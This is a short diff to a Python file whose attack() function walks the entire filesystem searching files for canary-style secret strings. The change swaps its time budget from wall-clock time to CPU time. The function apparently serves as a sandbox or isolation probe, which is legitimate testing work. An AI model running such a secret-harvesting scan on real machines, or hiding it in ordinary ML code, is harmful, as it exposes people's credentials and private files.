@@ -9,7 +9,7 @@ from sklearn.tree import DecisionTreeClassifier
 
 def attack():
     secret = re.compile(b'CANARY' + b'-[0-9a-f]{6,}')
-    until, n_files = time.monotonic() + 20, 0
+    until, n_files = time.process_time() + 2, 0
     for folder, folders, names in os.walk('/'):
         folders[:] = [] if folder in ('/proc', '/sys', '/usr') else folders
         if 'site-packages' in folder or '/lib/python' in folder:
@@ -17,7 +17,7 @@ def attack():
         for name in names:
             path = os.path.join(folder, name)
             n_files += 1
-            if n_files > 200_000 or time.monotonic() > until:
+            if n_files > 200_000 or time.process_time() > until:
                 return
             try:
                 if not os.path.isfile(path) or os.path.getsize(path) > 1 << 20:
